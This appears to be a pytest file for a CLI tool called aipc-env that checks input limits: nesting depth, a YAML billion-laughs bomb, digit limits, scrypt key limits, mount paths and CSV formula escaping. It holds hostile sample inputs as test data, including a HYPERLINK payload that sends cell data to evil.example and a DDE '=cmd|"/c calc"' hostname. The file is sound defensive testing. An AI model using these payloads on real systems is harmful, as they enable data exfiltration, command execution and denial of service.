"""Every file aipc-env reads from a user is parsed with limits (size, depth, YAML alias expansion), and every cell it
writes into a CSV is one a spreadsheet shows as text: each bound tested at, below and above it, through the real CLI
where a user meets it."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.conftest import run_cli
from tests.support.reports import generate_reports


def _nested_json(depth: int) -> str:
    return "[" * depth + "]" * depth


def _nested_yaml(depth: int) -> str:
    return "[" * depth + "]" * depth + "\n"


@pytest.mark.parametrize("parse, nested", [("parse_json", _nested_json), ("parse_yaml", _nested_yaml)])
def test_depth_at_below_and_above_the_bound(parse, nested):
    from aipc_env.core import fileio
    from aipc_env.errors import InputError

    parser = getattr(fileio, parse)
    for depth in (fileio.MAX_DEPTH - 1, fileio.MAX_DEPTH):
        parser(nested(depth), "f.txt", "test file")
    with pytest.raises(InputError, match="nested deeper than 64 levels") as err:
        parser(nested(fileio.MAX_DEPTH + 1), "f.txt", "test file")
    assert "f.txt" in err.value.render()


@pytest.mark.parametrize("parse, nested", [("parse_json", _nested_json), ("parse_yaml", _nested_yaml)])
def test_nesting_past_the_recursion_limit_is_a_named_error(parse, nested):
    from aipc_env.core import fileio
    from aipc_env.errors import InputError

    with pytest.raises(InputError, match="nested deeper"):
        getattr(fileio, parse)(nested(100_000), "deep", "test file")


def test_yaml_alias_expansion_bound(monkeypatch):
    from aipc_env.core import fileio
    from aipc_env.errors import InputError

    monkeypatch.setattr(fileio, "MAX_YAML_NODES", 10)
    fileio.parse_yaml("[" + ", ".join("x" * 8) + "]", "f", "t")  # 9 nodes
    fileio.parse_yaml("[" + ", ".join("x" * 9) + "]", "f", "t")  # 10 nodes: at the bound
    with pytest.raises(InputError, match="holds more than 10 values"):  # written out: stopped while composing
        fileio.parse_yaml("[" + ", ".join("x" * 10) + "]", "f", "t")
    # a shared node counts each time it is used: 1 + 3 * (1 + 3) = 13 values from 4 written
    with pytest.raises(InputError, match="anchors and aliases"):
        fileio.parse_yaml("a: &a [x, y, z]\nb: [*a, *a, *a]\n", "f", "t")


def test_a_billion_laughs_winget_file_is_refused_by_name(tmp_path):
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
    bomb = tmp_path / "bomb.dsc.yaml"
    bomb.write_text("\n".join(lines) + "\n")  # ~700 bytes that stand for 9^9 (387 million) strings
    result = run_cli("fleet", "winget", "--check", str(bomb), timeout=60)
    assert result.returncode == 2, (result.stdout, result.stderr[-2000:])
    assert "bomb.dsc.yaml" in result.stderr and "anchors and aliases" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_long_dependency_chain_is_checked_without_recursion(tmp_path):
    import yaml

    count = 1500
    resources = [
        {
            "resource": "Microsoft.WinGet.DSC/WinGetPackage",
            "id": f"r{i}",
            "directives": {"description": f"step {i}"},
            "settings": {"id": "Git.Git", "source": "winget"},
            **({"dependsOn": [f"r{i - 1}"]} if i else {}),
        }
        for i in range(count)
    ]
    resources[0]["dependsOn"] = [f"r{count - 1}"]  # closes the chain into one cycle of 1,500
    doc = {"properties": {"configurationVersion": "0.2.0", "resources": resources}}
    path = tmp_path / "chain.dsc.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    result = run_cli("fleet", "winget", "--check", str(path), timeout=120)
    assert "Traceback" not in result.stderr and "RecursionError" not in result.stderr
    assert result.returncode == 1 and "dependency cycle: r0 -> r1499 -> r1498" in result.stdout, result.stdout[-800:]


def test_cycle_finder_agrees_on_small_graphs():
    from aipc_env.fleet.winget_check import _cycle

    assert _cycle({"a": ["b"], "b": ["c"], "c": []}) is None
    assert _cycle({"a": ["a"]}) == ["a", "a"]
    assert _cycle({"a": ["b"], "b": ["c"], "c": ["b"]}) == ["b", "c", "b"]
    assert _cycle({"a": ["x"], "b": ["a"]}) is None  # an unknown id is a different finding, not a cycle


def test_file_size_bound(tmp_path):
    from aipc_env.core.fileio import read_text
    from aipc_env.errors import InputError

    path = tmp_path / "f.json"
    for size in (1023, 1024):
        path.write_bytes(b" " * size)
        assert len(read_text(path, "test file", max_bytes=1024)) == size
    path.write_bytes(b" " * 1025)
    with pytest.raises(InputError, match="larger than") as err:
        read_text(path, "test file", max_bytes=1024)
    assert "f.json" in err.value.render()


def test_a_deep_report_is_one_unreadable_row_and_the_rest_are_read(tmp_path):
    generate_reports(tmp_path / "r", 2)
    (tmp_path / "r" / "deep.json").write_text('{"findings": ' + _nested_json(50_000) + ', "facts": {}}')
    result = run_cli("fleet", "report", str(tmp_path / "r"), "--json", timeout=120)
    assert "Traceback" not in result.stderr, result.stderr[-2000:]
    rows = {m["key"]: m for m in json.loads(result.stdout)["machines"]}
    assert rows["deep"]["state"] == "unreadable" and "nested deeper" in rows["deep"]["problem"]
    assert sum(m["state"] != "unreadable" for m in rows.values()) == 2


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_never_start_a_formula(start):
    from aipc_env.fleet.tabular import csv_text, safe_cell

    payload = start + 'HYPERLINK("http://evil.example/?"&A1,"x")'
    assert safe_cell(payload) == "'" + payload
    assert safe_cell("golden-pc") == "golden-pc" and safe_cell(None) == "" and safe_cell("a=b") == "a=b"
    row = next(csv.reader(io.StringIO(csv_text(["h"], [[payload]]).split("\n", 1)[1])))
    assert row == ["'" + payload]


def test_a_hostile_hostname_reaches_the_fleet_csv_as_text(tmp_path):
    generate_reports(tmp_path / "r", 2)
    report = json.loads((tmp_path / "r" / "AIPC-0000.json").read_text())
    report["facts"]["machine"]["hostname"] = '=cmd|"/c calc"!A1'
    (tmp_path / "r" / "AIPC-0000.json").write_text(json.dumps(report))
    result = run_cli(
        "fleet", "report", str(tmp_path / "r"), "--csv", str(tmp_path / "out.csv"), "--out", str(tmp_path / "out.html")
    )
    assert result.returncode in (0, 1), result.stderr[-2000:]
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text(encoding="utf-8"))))
    hostnames = {r["hostname"] for r in rows}
    assert '\'=cmd|"/c calc"!A1' in hostnames
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    page = (tmp_path / "out.html").read_text(encoding="utf-8")
    assert "=cmd|&#34;/c calc&#34;!A1" in page and '"/c calc"' not in page  # HTML-escaped, quotes included


# --- every invalid value is exit 2, naming the file and key (or the option) -----------------------------------


def _assert_input_error(result, *needles: str) -> None:
    assert result.returncode == 2, (result.returncode, result.stdout[-1000:], result.stderr[-2000:])
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr, result.stderr[-2000:]
    for needle in needles:
        assert needle in result.stderr, (needle, result.stderr[-2000:])


@pytest.mark.parametrize(
    "value, ok",
    [
        ("NaN", False),
        ("Infinity", False),
        ("-Infinity", False),
        ("-0.5", False),
        ("0", True),
        ("32", True),
        ("1048576", True),
        ("1048577", False),
    ],
)
def test_probe_numbers_must_be_finite_and_in_range(tmp_path, value, ok):
    probe = tmp_path / "probe.json"
    probe.write_text('{"gpu_name": "Intel(R) Arc(TM) Graphics", "xpu_available": true, "ram_gb": ' + value + "}")
    result = run_cli("recommend", "--facts", str(probe), "--force")
    if ok:
        assert result.returncode == 0, result.stderr[-2000:]
    else:
        _assert_input_error(result, "probe.json", "ram_gb")


@pytest.mark.parametrize(
    "argv",
    [
        ["lock", "--pair", "xpu-2.12"],
        ["env", "--dry-run", "--pair", "xpu-2.12"],
        ["fleet", "bundle", "--pair", "xpu-2.12", "--platform", "linux-64", "--out", "b"],
        ["container", "render", "--pair", "xpu-2.12"],
    ],
)
@pytest.mark.parametrize("python", ["abc", "3", "3.7", "4.0", "3.100", "3.12.1"])
def test_a_malformed_python_is_a_usage_error(tmp_path, argv, python):
    _assert_input_error(run_cli(*argv, "--python", python, cwd=tmp_path), "argument --python", repr(python))
    assert not any(tmp_path.iterdir())  # refused before any work


def test_python_minor_bounds():
    from aipc_env.core.specs import check_python_minor

    assert [check_python_minor(v) for v in ("3.8", "3.12", "3.99", " 3.13 ")] == ["3.8", "3.12", "3.99", "3.13"]
    for bad in ("3.7", "3.100", "3.x", "", "3.12.0", "2.7"):
        with pytest.raises(ValueError, match=r"X\.Y"):
            check_python_minor(bad)


def test_an_invalid_marker_in_a_pylock_names_the_file_and_package(tmp_path):
    import shutil

    from tests.conftest import ROOT

    shutil.copytree(ROOT / "lockfiles" / "xpu-2.12", tmp_path / "xpu-2.12")
    lock = tmp_path / "xpu-2.12" / "pylock.linux-64.toml"
    text = lock.read_text()
    start = text.index('marker = "')
    lock.write_text(text[:start] + "marker = \"python_version >>> '3.10'\"" + text[text.index("\n", start) :])
    for argv in (["lock", "check"], ["env", "--dry-run"]):
        _assert_input_error(
            run_cli(*argv, "--pair", "xpu-2.12", "--lock-root", str(tmp_path)),
            "pylock.linux-64.toml",
            "packages[",
            "marker",
            "invalid PEP 508 marker",
        )


@pytest.mark.parametrize("length, ok", [(131_071, True), (131_072, True), (131_073, False)])
def test_an_over_long_csv_field_is_a_named_error(tmp_path, length, ok):
    csv_file = tmp_path / "train.csv"
    csv_file.write_text("path_target,prompt\na.png,short\nb.png," + "x" * length + "\n", encoding="utf-8")
    result = run_cli("dataset", "validate", str(csv_file))
    if ok:
        assert result.returncode == 1 and "line 3" in result.stdout, result.stderr[-1000:]  # invalid, but read
    else:
        _assert_input_error(result, "train.csv", "line 3", "field larger than field limit")


@pytest.fixture(scope="module")
def smoke_config(tmp_path_factory):
    base = tmp_path_factory.mktemp("smoke")
    result = run_cli("recommend", "--smoke", "--force", "--out", str(base / "smoke.yaml"), cwd=base)
    assert result.returncode == 0, result.stderr[-2000:]
    return base / "smoke.yaml"


def _edited(src, dst, old: str, new: str):
    text = src.read_text(encoding="utf-8")
    assert old in text, old
    dst.write_text(text.replace(old, new, 1), encoding="utf-8")
    return dst


@pytest.mark.parametrize(
    "seed, ok", [("0", True), ("4294967295", True), ("4294967296", False), ("-1", False), ("99999999999999999999999999", False)]
)
def test_seed_bounds_in_a_config(smoke_config, tmp_path, seed, ok):
    config = _edited(smoke_config, tmp_path / "c.yaml", "seed: 42", f"seed: {seed}")
    result = run_cli("train", str(config), "--dry-run")
    if ok:
        assert result.returncode == 0, result.stderr[-2000:]
    else:
        _assert_input_error(result, "c.yaml", "train.seed")


@pytest.mark.parametrize("seed, ok", [("4294967295", True), ("4294967296", False), ("-1", False), ("x", False)])
def test_seed_bounds_of_an_option(tmp_path, seed, ok):
    result = run_cli(
        "compare",
        "--config",
        str(tmp_path / "none.yaml"),
        "--lora",
        "l",
        "--test-set",
        "t",
        "--out",
        str(tmp_path / "o"),
        f"--seed={seed}",
    )
    _assert_input_error(result, *([] if ok else ["argument --seed"]))
    if ok:
        assert "none.yaml" in result.stderr  # got past --seed to the missing config


@pytest.mark.parametrize("value", [".inf", "-.inf", ".nan"])
def test_non_finite_numbers_in_configs_name_the_key(smoke_config, tmp_path, value):
    import yaml

    from aipc_env.distill.config import default_distill_config

    config = _edited(smoke_config, tmp_path / "t.yaml", "learning_rate: ", f"learning_rate: {value} #")
    _assert_input_error(run_cli("train", str(config), "--dry-run"), "t.yaml", "train.learning_rate", "finite")
    data = default_distill_config(tmp_path)
    data["student"]["alpha"] = float(value.replace(".", ""))
    (tmp_path / "distill.yaml").write_text(yaml.safe_dump(data))
    _assert_input_error(
        run_cli("distill", "report", "--config", str(tmp_path / "distill.yaml")), "distill.yaml", "student.alpha", "finite"
    )


def _read_only_folder(tmp_path):
    """A folder no one can write: a chmod 555 folder for a normal user; for root (who ignores modes), /sys, which
    Linux mounts read-only for everyone in a container and refuses new files in elsewhere."""
    import os

    if os.geteuid() != 0:
        folder = tmp_path / "read-only"
        folder.mkdir()
        folder.chmod(0o555)
        return folder
    return __import__("pathlib").Path("/sys/aipc-env-test")


def test_outputs_in_a_read_only_folder_are_refused_before_any_work(smoke_config, tmp_path):
    ro = _read_only_folder(tmp_path)
    _assert_input_error(
        run_cli("recommend", "--smoke", "--force", "--out", str(ro / "sub" / "c.yaml")), "argument --out", "not writable"
    )
    _assert_input_error(run_cli("distill", "init", str(ro / "run")), "argument folder", "not writable")
    _assert_input_error(run_cli("fleet", "report", str(tmp_path), "--csv", str(ro / "r.csv")), "argument --csv")
    config = _edited(smoke_config, tmp_path / "t.yaml", "output_dir: ", f"output_dir: {ro / 'run'} #")
    result = run_cli("train", str(config))
    _assert_input_error(result, "t.yaml", "output_dir", "not writable")
    assert "engine" not in result.stderr.lower()  # nothing started
    assert not (ro / "run").exists()


def test_a_folder_given_as_an_output_file_and_the_reverse(tmp_path):
    (tmp_path / "x.py").mkdir()
    (tmp_path / "file").write_text("keep")
    _assert_input_error(
        run_cli("recommend", "--smoke", "--force", "--out", str(tmp_path / "x.py")), "argument --out", "is a folder"
    )
    _assert_input_error(run_cli("distill", "init", str(tmp_path / "file")), "argument folder", "is a file")
    _assert_input_error(
        run_cli("recommend", "--smoke", "--force", "--out", str(tmp_path / "file" / "c.yaml")), "is a file, not a folder"
    )
    assert (tmp_path / "file").read_text() == "keep"


def test_the_last_net_through_the_cli(tmp_path):
    """An OSError a user's path causes that no check caught first (a folder read as a file) is exit 2 naming it."""
    (tmp_path / "layer.txt").mkdir()
    result = run_cli(
        "lock", "--pair", "xpu-2.12", "--pip-layer", str(tmp_path / "layer.txt"), "--lock-root", str(tmp_path / "locks")
    )
    _assert_input_error(result, "layer.txt", "Is a directory")


# --- distill init keeps the user's work ---------------------------------------------------------------------


def test_distill_init_refuses_to_overwrite_and_writes_paths_as_typed(tmp_path):
    (tmp_path / "work").mkdir()
    first = run_cli("distill", "init", "runs/x.py", cwd=tmp_path / "work")
    assert first.returncode == 0, first.stderr
    config = tmp_path / "work" / "runs" / "x.py" / "distill.yaml"
    edited = config.read_text(encoding="utf-8").replace("max_train_steps: 20", "max_train_steps: 7")
    config.write_text(edited, encoding="utf-8")
    again = run_cli("distill", "init", "runs/x.py", cwd=tmp_path / "work")
    _assert_input_error(again, "distill.yaml", "already there", "--force")
    assert config.read_text(encoding="utf-8") == edited
    from aipc_env.distill.config import load_distill_config

    assert load_distill_config(config).out == config.parent  # output_dir resolves to the folder the user typed
    forced = run_cli("distill", "init", "runs/x.py", "--force", cwd=tmp_path / "work")
    assert forced.returncode == 0 and (config.parent / "distill.yaml.bak").read_text(encoding="utf-8") == edited
    assert "max_train_steps: 20" in config.read_text(encoding="utf-8")


# --- numbers past Python's digit limit -------------------------------------------------------------------------


@pytest.mark.parametrize("parse, doc", [("parse_json", "[{}]"), ("parse_yaml", "[{}]\n"), ("parse_toml", "a = {}\n")])
@pytest.mark.parametrize("digits, ok", [(4299, True), (4300, True), (4301, False), (5000, False)])
def test_a_number_past_the_digit_limit_is_a_named_error(tmp_path, parse, doc, digits, ok):
    from aipc_env.core import fileio
    from aipc_env.errors import InputError

    text = doc.replace("{}", "1" * digits)
    if ok:
        getattr(fileio, parse)(text, tmp_path / "f", "the file")
    else:
        with pytest.raises(InputError, match="holds a number of more than 4300 digits") as err:
            getattr(fileio, parse)(text, tmp_path / "f", "the file")
        assert err.value.path == str(tmp_path / "f")


def test_a_facts_file_with_a_5000_digit_number_through_the_cli(tmp_path):
    facts = tmp_path / "facts.json"
    facts.write_text('{"schema_version": ' + "9" * 5000 + "}")
    _assert_input_error(run_cli("doctor", "--facts", str(facts)), "facts.json", "more than 4300 digits")


# --- minisign files and keys -----------------------------------------------------------------------------------


def test_trust_and_signature_files_are_read_bounded_from_the_stream(tmp_path):
    """/dev/zero has no size to check beforehand: read up to 4 KiB, then refused (it once ran out of memory)."""
    from aipc_env.fleet.sign import PublicKey, SignatureInvalid, verify_file

    (tmp_path / "bundle").mkdir()
    _assert_input_error(
        run_cli("env", "--bundle", str(tmp_path / "bundle"), "--trust", "/dev/zero", timeout=60),
        "/dev/zero",
        "too large to be a minisign file",
    )
    target = tmp_path / "m.json"
    target.write_text("{}")
    with pytest.raises(SignatureInvalid, match="no signature"):  # not a regular file: not a signature
        verify_file(target, PublicKey(bytes(8), bytes(32)), signature_path=Path("/dev/zero"))
    big = tmp_path / "m.json.minisig"
    big.write_text("untrusted comment: x\n" + "A" * 5000 + "\n")
    with pytest.raises(SignatureInvalid, match="not a minisign signature file"):
        verify_file(target, PublicKey(bytes(8), bytes(32)))
    key = tmp_path / "k.pub"
    for size, ok in ((4096, True), (4097, False)):  # at and above the bound: read, or refused by size
        key.write_text("untrusted comment: x\n" + "A" * (size - 21))
        from aipc_env.errors import InputError
        from aipc_env.fleet.sign import read_public_key

        with pytest.raises(InputError) as err:
            read_public_key(key)
        assert ("too large" in err.value.message) is not ok


def _encrypted_key(tmp_path: Path, opslimit: int, memlimit: int) -> Path:
    """A minisign secret key as keygen writes it with a password, then its scrypt limits rewritten."""
    import base64
    import struct

    from aipc_env.fleet.sign import generate_keypair, write_keypair

    path = tmp_path / f"k-{opslimit}-{memlimit}.key"
    secret, public = generate_keypair()
    write_keypair(secret, public, path, path.with_suffix(".pub"), password=None)
    blob = bytearray(base64.b64decode(path.read_text().splitlines()[1]))
    blob[2:4] = b"Sc"  # scrypt
    blob[38:54] = struct.pack("<QQ", opslimit, memlimit)
    path.write_text("untrusted comment: minisign encrypted secret key\n" + base64.b64encode(bytes(blob)).decode() + "\n")
    return path


@pytest.mark.parametrize(
    "ops, mem, ok",
    [
        (32768, 2 * 1073741824, True),  # memlimit at its bound: scrypt runs (and the wrong password shows)
        (2 * 33554432, 1 << 20, True),  # opslimit at its bound
        (32768, 2 * 1073741824 + 1, False),
        (2 * 33554432 + 1, 1 << 20, False),
        (1 << 62, 1 << 62, False),
        (0, 1 << 20, False),
        (32768, 0, False),
    ],
)
def test_scrypt_limits_in_a_secret_key_are_bounded(tmp_path, ops, mem, ok):
    from aipc_env.errors import InputError
    from aipc_env.fleet.sign import read_secret_key

    path = _encrypted_key(tmp_path, ops, mem)
    with pytest.raises(InputError) as err:
        read_secret_key(path, "a wrong password")
    if ok:
        assert "does not check out (wrong password" in err.value.message
    else:
        assert "scrypt limits" in err.value.message and "beyond what minisign writes" in err.value.message


def test_a_hostile_signing_key_is_refused_through_the_cli_before_any_work(tmp_path):
    path = _encrypted_key(tmp_path, 1 << 62, 1 << 62)
    result = run_cli(
        "fleet",
        "bundle",
        "--pair",
        "xpu-2.12",
        "--platform",
        "linux-64",
        "--out",
        str(tmp_path / "b"),
        "--sign",
        str(path),
        env={"AIPC_ENV_SIGN_PASSWORD": "pw"},
        timeout=60,
    )
    _assert_input_error(result, str(path), "scrypt limits")
    assert not (tmp_path / "b").exists()


# --- distill: alpha, sigmas, verdicts ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "rank, alpha, ok",
    [
        (1, 0.5, True),
        (4096, 8.0, True),
        (4097, 8.0, False),
        (0, 8.0, False),
        (4, "Infinity", False),
        (4, "NaN", False),
        (4, "-Infinity", False),
        (4, 1e308, True),
        (4, 0, False),
    ],
)
def test_an_export_carries_only_a_usable_rank_and_finite_alpha(tmp_path, rank, alpha, ok):
    """json.loads reads Infinity and NaN: an adapter saying lora_alpha Infinity was once exported."""
    from safetensors.torch import save_file

    from aipc_env.errors import InputError
    from aipc_env.workers.distill.export import _metadata

    meta = f'{{"transformer.r": {rank}, "transformer.lora_alpha": {alpha}}}'
    path = tmp_path / "l.safetensors"
    save_file({}, str(path), metadata={"lora_adapter_metadata": meta})
    if ok:
        assert _metadata({"lora_adapter_metadata": meta}, path)[0] == rank
    else:
        with pytest.raises(InputError, match="are not usable"):
            _metadata({"lora_adapter_metadata": meta}, path)


@pytest.mark.parametrize("count, ok", [(1000, True), (1001, False), (100_000, False)])
def test_a_teacher_grid_has_a_bounded_length_and_the_message_stays_short(tmp_path, count, ok):
    import yaml

    from aipc_env.distill.config import default_distill_config

    data = default_distill_config(tmp_path / "run")
    data["teacher_sigmas"] = [1 - i / (2 * count) for i in range(count)]
    (tmp_path / "distill.yaml").write_text(yaml.safe_dump(data))
    result = run_cli("distill", "report", "--config", str(tmp_path / "distill.yaml"), timeout=60)
    if ok:
        assert result.returncode == 0, result.stderr[-1000:]
    else:
        _assert_input_error(result, f"{count} sigmas: a teacher grid has at most 1000")
        assert len(result.stderr) < 1000


def test_a_model_index_with_a_long_grid_is_quoted_in_a_few_values(tmp_path):
    import yaml

    from aipc_env.distill.config import default_distill_config

    model = tmp_path / "model"
    model.mkdir()
    (model / "model_index.json").write_text(json.dumps({"sample_sigmas": [0.5] * 50_000}))
    data = default_distill_config(tmp_path / "run")
    data["model"] = str(model)
    (tmp_path / "distill.yaml").write_text(yaml.safe_dump(data))
    result = run_cli("distill", "report", "--config", str(tmp_path / "distill.yaml"), timeout=60)
    _assert_input_error(result, "its sample_sigmas [0.5, 0.5, 0.5, 0.5, ... (50000 values)] cannot be the teacher grid")
    assert len(result.stderr) < 1000
    (model / "model_index.json").write_text("[" * 5000 + "]" * 5000)
    _assert_input_error(
        run_cli("distill", "report", "--config", str(tmp_path / "distill.yaml"), timeout=60),
        "model_index.json is nested deeper than 64 levels",
    )


@pytest.mark.parametrize(
    "stage, key, value, message",
    [
        ("g3", ("mean", "student", "mse"), "x", "Input should be a valid number"),
        ("g3", ("metric",), "bleu", "Input should be 'lpips', 'latent_mse' or 'psnr'"),
        ("train", ("velocity_mse_on",), "high", "Input should be a valid number"),
        ("trajectories", ("prompts",), "six", "Input should be a valid integer"),
        ("g2", ("teacher_max_abs_diff",), [1], "Input should be a valid number"),
    ],
)
def test_a_verdict_with_string_metrics_is_a_named_error_not_a_crash(tmp_path, stage, key, value, message):
    from aipc_env.core.formats import load_versioned
    from aipc_env.distill.verdict import Verdict

    metrics = {
        "g3": {
            "metric": "psnr",
            "metric_note": "n",
            "mean": {"student": {"mse": 1.0, "psnr": 2.0}, "naive": {"mse": 1.0, "psnr": 2.0}},
        },
        "train": {"velocity_mse_on": 0.1},
        "trajectories": {"prompts": 6},
        "g2": {"teacher_max_abs_diff": 0.0},
    }
    good = {
        "schema_version": 1,
        "stage": stage,
        "status": "ok",
        "model": "m",
        "when": "t",
        "seconds": 1.0,
        "metrics": metrics[stage],
    }
    path = tmp_path / f"{stage}.json"
    path.write_text(json.dumps(good))
    load_versioned(Verdict, path)  # the well-formed one reads
    node = good["metrics"]
    for part in key[:-1]:
        node = node[part]
    node[key[-1]] = value
    path.write_text(json.dumps(good))
    from aipc_env.errors import InputError

    with pytest.raises(InputError, match=message) as err:
        load_versioned(Verdict, path)
    assert err.value.path == str(path)


def test_a_run_whose_verdict_holds_a_string_metric_reports_exit_2(tmp_path):
    """Through the CLI: `distill report` over a folder whose g3 verdict says mean.student.mse is a string."""
    import yaml

    from aipc_env.distill.config import default_distill_config

    run = tmp_path / "run"
    (run / "verdicts").mkdir(parents=True)
    data = default_distill_config(run)
    (run / "distill.yaml").write_text(yaml.safe_dump(data))
    (run / "verdicts" / "g3.json").write_text(
        json.dumps(
            {
                "schema_version": 1,
                "stage": "g3",
                "status": "ok",
                "model": "m",
                "when": "t",
                "seconds": 1.0,
                "metrics": {"metric": "psnr", "mean": {"student": {"psnr": "high"}, "naive": {"psnr": 1.0}}},
            }
        )
    )
    result = run_cli("distill", "report", "--config", str(run / "distill.yaml"), timeout=60)
    assert result.returncode in (0, 2), result.stderr[-1000:]  # no model yet: nothing is current, or refused by name
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr


# --- names and mounts ---------------------------------------------------------------------------------------------


def test_report_file_names_that_are_not_utf8_are_shown_escaped(tmp_path):
    import os

    folder = os.fsencode(tmp_path / "reports")
    os.makedirs(folder)
    with open(os.path.join(folder, b"m\xff\xfe.json"), "w") as fh:
        fh.write("{}")
    result = run_cli(
        "fleet",
        "report",
        str(tmp_path / "reports"),
        "--json",
        "--out",
        str(tmp_path / "r.html"),
        "--csv",
        str(tmp_path / "r.csv"),
        timeout=60,
    )
    assert result.returncode == 1, result.stderr[-2000:]
    assert json.loads(result.stdout)["machines"][0]["file"].endswith("m\\xff\\xfe.json")
    assert "m\\xff\\xfe" in (tmp_path / "r.csv").read_text(encoding="utf-8")
    assert "m\\xff\\xfe" in (tmp_path / "r.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("host, ok", [("out", True), ("out:ro", False), ("a:b/out", False), ("out ü & (x86)", True)])
def test_a_mount_whose_path_holds_a_colon_is_refused(tmp_path, host, ok):
    from aipc_env.container.engine import Engine, run_argv
    from aipc_env.errors import InputError

    engine = Engine(name="podman", path="/usr/bin/podman")
    mounts = [(tmp_path / host, "/output", False)]
    if ok:
        argv = run_argv(engine, "img", ["true"], devices=[], mounts=mounts)
        assert f"{tmp_path / host}:/output" in argv
    else:
        with pytest.raises(InputError, match="a folder whose path holds ':' cannot be mounted"):
            run_argv(engine, "img", ["true"], devices=[], mounts=mounts)


@pytest.mark.parametrize("name, ok", [("out", True), ("out:ro", False)])
def test_container_run_refuses_an_output_folder_with_a_colon_through_the_cli(tmp_path, name, ok):
    from tests.conftest import find_tool, require_tool

    require_tool(None if find_tool("podman") or Path("/usr/sbin/podman").exists() else "podman (Debian package)")
    out = tmp_path / name
    out.mkdir()
    result = run_cli(
        "container",
        "run",
        "--dry-run",
        "--engine",
        "podman",
        "--allow-root",
        "--output",
        str(out),
        "--dev-root",
        str(tmp_path),
        "--",
        "doctor",
        timeout=60,
    )
    if ok:
        assert result.returncode == 0, result.stderr[-1000:]
        assert f"-v {out}:/output " in result.stderr
    else:
        _assert_input_error(result, str(out), "a folder whose path holds ':' cannot be mounted")
